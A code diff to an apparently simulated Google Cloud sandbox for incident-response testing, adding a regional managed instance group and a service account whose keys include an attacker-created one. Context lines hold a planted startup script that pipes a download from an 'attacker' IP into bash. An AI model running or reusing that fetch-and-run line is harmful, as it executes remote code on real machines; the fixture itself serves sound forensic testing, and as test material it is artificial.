@@ -18,6 +18,10 @@ FORENSIC_PROJECT = "forensics-vault"
 ZONE = "us-central1-a"
 OTHER_ZONE = "europe-west1-b"
 INSTANCE = "web-frontend-7x2k"
+REGION = "us-central1"
+REGIONAL_ZONE = "us-central1-b"
+REGIONAL_INSTANCE = "api-backend-q8w1"
+REGIONAL_MIG = "api-backend-rmig"
 MIG = "web-frontend-mig"
 NETWORK = link(PROJECT, "global", "networks", "default")
 SERVICE_ACCOUNT = f"web-frontend@{PROJECT}.iam.gserviceaccount.com"
@@ -30,6 +34,7 @@ WINDOW_START = "2026-11-20T08:00:00Z"
 WINDOW_END = "2026-11-20T12:00:00Z"
 STARTUP_SCRIPT = "#!/bin/bash\ncurl -s http://203.0.113.66/x.sh | bash\n"
 ATTACKER_IP = "203.0.113.66"
+ATTACKER_KEY_ID = "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3"  # the key the attacker created at 10:09
 # Generic capability names (shared by every sandbox) to the Compute / Logging operation they exercise.
 OPERATION_ALIASES = {
     "preserve": "instances.setDeletionProtection",
@@ -204,6 +209,31 @@ class GcpSandbox:
             "serviceAccounts": [],
             "selfLink": link(PROJECT, "zones", OTHER_ZONE, "instances", "batch-worker-1"),
         }
+        _plant_regional_group_member(fake)
+        fake.service_accounts[SERVICE_ACCOUNT] = {
+            "account": {
+                "name": f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}",
+                "email": SERVICE_ACCOUNT,
+                "projectId": PROJECT,
+                "uniqueId": "104729358123456789012",
+                "displayName": "web frontend",
+                "oauth2ClientId": "104729358123456789012",
+            },
+            "keys": [
+                {
+                    "name": f"projects/{PROJECT}/serviceAccounts/{SERVICE_ACCOUNT}/keys/{key}",
+                    "keyType": kind,
+                    "keyOrigin": "GOOGLE_PROVIDED",
+                    "keyAlgorithm": "KEY_ALG_RSA_2048",
+                    "validAfterTime": after,
+                    "validBeforeTime": "9999-12-31T23:59:59Z",
+                }
+                for key, kind, after in (
+                    ("3f1c0a9e5b7d2c4e6f8a0b1c2d3e4f5a6b7c8d9e", "SYSTEM_MANAGED", "2026-11-01T00:00:00Z"),
+                    (ATTACKER_KEY_ID, "USER_MANAGED", "2026-11-20T10:09:00Z"),
+                )
+            ],
+        }
         project.igms.setdefault(ZONE, {})[MIG] = {
             "kind": "compute#instanceGroupManager",
             "id": fake.new_id(),
@@ -297,6 +327,54 @@ class GcpSandbox:
     def throttle(self, operation: str, times: int, *, after: int = 0) -> None:
         """Answer ``times`` calls of ``operation`` with 429 RESOURCE_EXHAUSTED, after ``after`` successful ones."""
         self.fake.inject(OPERATION_ALIASES.get(operation, operation), "RESOURCE_EXHAUSTED", times, after=after)
+
+
+def _plant_regional_group_member(fake: FakeGcp) -> None:
+    """A second instance, member of a regional managed instance group (no external IP, one disk)."""
+    project = fake.project(PROJECT)
+    instance_link = link(PROJECT, "zones", REGIONAL_ZONE, "instances", REGIONAL_INSTANCE)
+    disk_link = link(PROJECT, "zones", REGIONAL_ZONE, "disks", REGIONAL_INSTANCE)
+    project.disks.setdefault(REGIONAL_ZONE, {})[REGIONAL_INSTANCE] = {
+        "kind": "compute#disk",
+        "id": fake.new_id(),
+        "name": REGIONAL_INSTANCE,
+        "sizeGb": "10",
+        "status": "READY",
+        "zone": link(PROJECT, "zones", REGIONAL_ZONE),
+        "users": [instance_link],
+        "selfLink": disk_link,
+    }
+    project.instances.setdefault(REGIONAL_ZONE, {})[REGIONAL_INSTANCE] = {
+        "kind": "compute#instance",
+        "id": fake.new_id(),
+        "name": REGIONAL_INSTANCE,
+        "status": "RUNNING",
+        "zone": link(PROJECT, "zones", REGIONAL_ZONE),
+        "deletionProtection": False,
+        "tags": {"items": [], "fingerprint": "tags-v0"},
+        "labels": {"app": "api"},
+        "metadata": {
+            "items": [
+                {
+                    "key": "created-by",
+                    "value": f"projects/123456789012/regions/{REGION}/instanceGroupManagers/{REGIONAL_MIG}",
+                }
+            ]
+        },
+        "disks": [{"source": disk_link, "deviceName": "boot", "index": 0, "boot": True, "type": "PERSISTENT"}],
+        "networkInterfaces": [{"name": "nic0", "network": NETWORK, "networkIP": "10.128.0.40", "accessConfigs": []}],
+        "serviceAccounts": [],
+        "selfLink": instance_link,
+    }
+    project.igms.setdefault(REGION, {})[REGIONAL_MIG] = {
+        "kind": "compute#instanceGroupManager",
+        "id": fake.new_id(),
+        "name": REGIONAL_MIG,
+        "region": link(PROJECT, "regions", REGION),
+        "targetSize": 2,
+        "selfLink": link(PROJECT, "regions", REGION, "instanceGroupManagers", REGIONAL_MIG),
+        "_managed": [instance_link, link(PROJECT, "zones", "us-central1-c", "instances", "api-backend-k3")],
+    }
 
 
 def _entry(
